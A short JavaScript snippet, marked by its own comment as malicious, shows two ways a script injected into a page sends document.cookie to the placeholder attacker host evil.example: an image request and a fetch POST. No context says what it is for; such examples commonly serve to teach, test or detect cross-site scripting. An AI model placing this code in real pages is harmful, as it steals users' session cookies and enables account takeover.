// malicious: the cookies of a page
new Image().src = 'https://evil.example/c?' + document.cookie;
fetch('https://evil.example/c', { method: 'POST', body: document.cookie });
